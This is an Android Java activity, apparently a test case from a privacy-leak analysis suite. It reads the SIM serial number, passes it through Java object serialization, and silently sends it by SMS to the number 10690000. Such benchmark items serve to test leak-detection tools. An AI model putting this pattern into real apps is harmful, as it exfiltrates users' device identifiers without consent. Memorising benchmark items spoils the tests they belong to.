package cn.privlens.suite.serial_own_writer;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.ObjectInputStream;
import java.io.ObjectOutputStream;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        try {
            ByteArrayOutputStream bytes = new ByteArrayOutputStream();
            ObjectOutputStream out = new ObjectOutputStream(bytes);
            out.writeObject(new Card(((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getSimSerialNumber()));
            out.close();
            ObjectInputStream in = new ObjectInputStream(new ByteArrayInputStream(bytes.toByteArray()));
            Card again = (Card) in.readObject();
            SmsManager.getDefault().sendTextMessage("10690000", null, again.number(), null, null);
        } catch (IOException | ClassNotFoundException e) {
            setTitle("e");
        }
    }
}
